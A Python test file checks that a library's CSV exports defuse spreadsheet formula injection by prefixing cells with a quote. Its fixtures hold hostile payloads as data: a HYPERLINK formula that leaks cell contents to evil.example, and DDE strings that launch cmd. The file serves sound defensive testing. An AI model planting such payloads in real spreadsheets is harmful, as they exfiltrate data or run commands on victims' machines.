"""Every CSV seqnb writes is data in any spreadsheet: a cell that would start a formula is written inert (OWASP).

A prompt, a note and tags that begin with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return come
back from the CSV with a leading single quote; numbers (a negative one included) come back as numbers.
"""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import pytest

import seqnb
from seqnb.cli import main

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Generate 2 images of a fox")'
NOTE = "+cmd|' /C calc'!A0"
TAGS = ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
COMMENT = "=1+1"
ERROR = "\t\r=1+1"


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture
def hostile_run(seqnb_client: seqnb.Client) -> seqnb.Run:
    run = seqnb_client.submit(seqnb.Request("seedream-4.5", FORMULA, count=2, seed=7))
    run.wait(30)
    seqnb_client.settle()
    ledger = seqnb_client.ledger
    assert ledger is not None and ledger.path is not None
    ledger.annotate(run.id, note=NOTE, tags=TAGS)
    ledger.mark(run.id, comment=COMMENT)
    with sqlite3.connect(ledger.path) as db:  # as a teammate could write them; a negative number is data
        db.execute("UPDATE runs SET cost='-0.08', error=? WHERE id=?", (ERROR, run.id))
    return run


def assert_inert(row: dict[str, str]) -> None:
    formula_cells = [v for v in row.values() if v[:1] in ("=", "+", "@", "\t", "\r")]
    assert formula_cells == []  # "-" starts only numbers here
    assert row["prompt"] == "'" + FORMULA
    assert row["note"] == "'" + NOTE
    assert row["tags"].startswith("'-2+3") and row["comment"] == "'" + COMMENT
    assert row["error"] == "'" + ERROR
    assert row["cost"] == "-0.08"  # a number stays a number
    assert float(row["est_cost"]) == pytest.approx(0.08)


def test_ledger_export_writes_formulas_as_text(
    seqnb_client: seqnb.Client, hostile_run: seqnb.Run, tmp_path: Path
) -> None:
    ledger = seqnb_client.ledger
    assert ledger is not None
    (row,) = read_csv(ledger.export(tmp_path / "runs.csv"))
    assert_inert(row)
    assert ledger.runs().iloc[0]["prompt"] == FORMULA  # the ledger itself keeps the text as it was written


def test_the_exports_runs_csv_and_the_command_line_write_formulas_as_text(
    seqnb_client: seqnb.Client, hostile_run: seqnb.Run, tmp_path: Path
) -> None:
    ledger = seqnb_client.ledger
    assert ledger is not None
    written = seqnb_client.export_images(ledger.runs(), tmp_path / "chosen")
    (row,) = read_csv(written[-1])
    assert_inert(row)
    assert row["marks"].startswith("#-2+3")
    assert main(["ledger", "--path", str(ledger.path), "--export", str(tmp_path / "cli.csv")]) == 0
    (row,) = read_csv(tmp_path / "cli.csv")
    assert_inert(row)
